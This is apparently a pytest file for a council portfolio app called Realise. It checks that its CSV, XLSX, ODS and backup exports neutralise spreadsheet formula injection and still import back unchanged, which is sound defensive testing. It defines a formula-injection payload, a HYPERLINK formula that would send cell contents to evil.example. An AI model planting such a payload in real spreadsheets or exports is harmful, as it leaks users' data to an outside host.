"""Text a user typed never becomes a live formula in a file Realise writes (OWASP CSV injection),
and the exported list still imports back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from realise.benefits import services as benefits
from realise.imports.engine import run_import
from realise.imports.exports import export_file
from realise.imports.kinds import KINDS
from realise.imports.templates import template_xlsx
from realise.portfolio import services as portfolio
from realise.portfolio.models import Project

pytestmark = pytest.mark.db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PRINTABLE = [HYPERLINK, "+44 1305 221000", "-minus first", "@SUM(A1)"]
WHITESPACE = ["\ttab first", "\rcr first"]


def _projects(council, names):
    """One project per name, its lead officer and summary the same text; code order = name order."""
    for index, name in enumerate(names):
        portfolio.project_create(
            organisation=council["org"],
            code=f"X-{index}",
            name=name,
            lead_officer=name,
            summary=name,
            directorate=council["people"],
        )


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline="")))


def _names_by_code(rows, headings):
    code, name = headings.index("Code"), headings.index("Name")
    return {row[code]: row[name] for row in rows}


def test_a_csv_export_puts_a_quote_before_text_that_starts_like_a_formula(council):
    _projects(council, PRINTABLE)
    rows = _csv_rows(export_file("projects", council["org"], "csv"))
    names = _names_by_code(rows[1:], rows[0])
    assert [names[f"X-{i}"] for i in range(len(PRINTABLE))] == ["'" + v for v in PRINTABLE]
    assert names["P-1"] == "Care review"
    assert names["X-0"].startswith("'=")


def test_a_negative_amount_in_a_csv_export_stays_a_number(council):
    entry = benefits.saving_record(
        organisation=council["org"],
        year="2024/25",
        amount="12500",
        project=council["care"],
        recorded_on=date(2025, 3, 31),
    )
    benefits.saving_reverse(entry=entry, reason="-counted twice", recorded_on=date(2025, 4, 2))
    rows = _csv_rows(export_file("savings", council["org"], "csv"))
    amount, note = rows[0].index("Amount"), rows[0].index("Note")
    assert [r[amount] for r in rows[1:]] == ["12500.00", "-12500.00"]
    assert rows[2][note] == "'-counted twice"


def test_an_xlsx_export_writes_text_that_starts_like_a_formula_as_a_string(council):
    _projects(council, PRINTABLE)
    book = openpyxl.load_workbook(io.BytesIO(export_file("projects", council["org"], "xlsx")))
    sheet = book.active
    headings = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        by_heading = dict(zip(headings, row, strict=True))
        for heading in ("Name", "Lead officer", "Summary"):
            cell = by_heading[heading]
            assert cell.value is None or cell.data_type == "s", (heading, cell.value)
    names = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
    assert [names[f"X-{i}"].value for i in range(len(PRINTABLE))] == PRINTABLE
    assert names["X-0"].data_type == "s"


def test_an_ods_export_writes_text_as_string_cells_without_formulas(council):
    from odf.namespaces import OFFICENS, TABLENS
    from odf.opendocument import load
    from odf.table import TableCell

    _projects(council, PRINTABLE)
    document = load(io.BytesIO(export_file("projects", council["org"], "ods")))
    texts = {}
    for cell in document.spreadsheet.getElementsByType(TableCell):
        assert cell.attributes.get((TABLENS, "formula")) is None
        if str(cell):
            texts[str(cell)] = cell.attributes.get((OFFICENS, "value-type"))
    assert all(texts[v] == "string" for v in PRINTABLE)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_text_that_starts_like_a_formula_exports_and_imports_back_unchanged(council, tmp_path, fmt):
    values = [*PRINTABLE, "'=already quoted", "'+44 quoted by hand"]
    _projects(council, values)
    path = tmp_path / f"projects.{fmt}"
    path.write_bytes(export_file("projects", council["org"], fmt))
    outcome = run_import(path, organisation=council["org"], dry_run=False)
    assert outcome.problems == []
    assert (outcome.changes, outcome.unchanged) == ([], Project.objects.count())
    assert [Project.objects.get(code=f"X-{i}").name for i in range(len(values))] == values


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_a_name_sent_with_a_leading_tab_or_return_is_kept_trimmed_and_imports_back(
    council, tmp_path, fmt
):
    """Every service trims one-line text as the web forms do, so a name sent through the API with
    a leading tab or carriage return is stored without it, and its export imports back
    unchanged (the writers' handling of such text is unit-tested in test_spreadsheet_text)."""
    _projects(council, WHITESPACE)
    assert [Project.objects.get(code=c).name for c in ("X-0", "X-1")] == ["tab first", "cr first"]
    path = tmp_path / f"projects.{fmt}"
    path.write_bytes(export_file("projects", council["org"], fmt))
    outcome = run_import(path, organisation=council["org"], dry_run=False)
    assert outcome.problems == []
    assert (outcome.changes, outcome.unchanged) == ([], Project.objects.count())


def test_a_csv_export_full_of_quotes_is_not_taken_for_single_quoted_csv(council, tmp_path):
    """Python's CSV sniffer takes ' for the quote character when it sees text between two of
    them; an export has many cells starting with one, so the reader never lets it."""
    _projects(council, ["-one", "=two", "Councillors'", "@three'", "+four"])
    path = tmp_path / "projects.csv"
    path.write_bytes(export_file("projects", council["org"], "csv"))
    outcome = run_import(path, organisation=council["org"], dry_run=False)
    assert outcome.problems == []
    assert (outcome.changes, outcome.unchanged) == ([], Project.objects.count())


def test_a_template_writes_the_councils_names_as_text(council, tmp_path):
    portfolio.directorate_create(organisation=council["org"], name=HYPERLINK, order=0)
    book = openpyxl.load_workbook(io.BytesIO(template_xlsx(KINDS["projects"], council["org"])))
    lists = [c for row in book["Lists"].iter_rows() for c in row if c.value is not None]
    assert HYPERLINK in [c.value for c in lists]
    assert {c.data_type for c in lists} == {"s"}
    example = [c for c in book["Projects"][2] if c.value is not None]
    assert {c.data_type for c in example if isinstance(c.value, str)} == {"s"}


def test_the_backup_csv_quotes_risky_text_but_not_negative_amounts(council, tmp_path):
    from realise.backup.archive import backup

    _projects(council, [HYPERLINK])
    entry = benefits.saving_record(
        organisation=council["org"],
        year="2024/25",
        amount="12500",
        project=council["care"],
        recorded_on=date(2025, 3, 31),
    )
    benefits.saving_reverse(entry=entry, reason="Counted twice", recorded_on=date(2025, 4, 2))
    backup(tmp_path / "b.zip", organisation=council["org"])
    with zipfile.ZipFile(tmp_path / "b.zip") as archive:
        projects = list(
            csv.DictReader(io.StringIO(archive.read("data/portfolio.project.csv").decode()))
        )
        entries = list(
            csv.DictReader(io.StringIO(archive.read("data/benefits.savingsentry.csv").decode()))
        )
    assert "'" + HYPERLINK in [p["name"] for p in projects]
    assert sorted(e["amount"] for e in entries) == ["-12500.00", "12500.00"]


@pytest.mark.libreoffice
@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_libreoffice_opens_an_export_with_the_text_as_text(council, fmt):
    from tests.readback import recalculated_xlsx

    _projects(council, [*PRINTABLE, "=1+1"])
    book = openpyxl.load_workbook(
        io.BytesIO(recalculated_xlsx(export_file("projects", council["org"], fmt), fmt))
    )
    names = {r[0].value: r[1] for r in book.active.iter_rows(min_row=2)}
    assert [names[f"X-{i}"].value for i in range(5)] == [*PRINTABLE, "=1+1"]
    assert {names[f"X-{i}"].data_type for i in range(5)} == {"s"}
